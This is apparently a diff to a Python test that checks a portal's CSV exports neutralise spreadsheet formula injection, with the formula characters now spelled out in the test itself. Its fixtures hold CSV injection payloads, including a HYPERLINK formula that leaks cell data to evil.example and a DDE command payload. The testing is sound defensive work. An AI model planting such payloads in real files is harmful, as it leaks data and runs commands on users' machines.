@@ -25,8 +25,11 @@ from models import (
     ReturnType,
     Warehouse,
 )
-from portal.csv_export import FORMULA_STARTS, csv_document, safe_cell
+from portal.csv_export import csv_document, safe_cell
 
+# What spreadsheets run as a formula (OWASP), spelled out here rather than taken from the
+# code under test: a character missing there must fail this test.
+FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = {
     "account_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Optik")',
     "account_number": "+1+cmd|' /C calc'!A0",
@@ -115,7 +118,7 @@ def test_every_export_neutralises_formulas(world_app, poisoned, identity, method
     assert len(rows) > 1, "the export has rows to check"
     cells = [cell for row in rows[1:] for cell in row]
     for cell in cells:
-        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (path, cell)
+        assert not cell.startswith(FORMULA_CHARACTERS) or _is_number(cell), (path, cell)
     for column in columns:
         payload = PAYLOADS[column]
         expected = "'" + payload
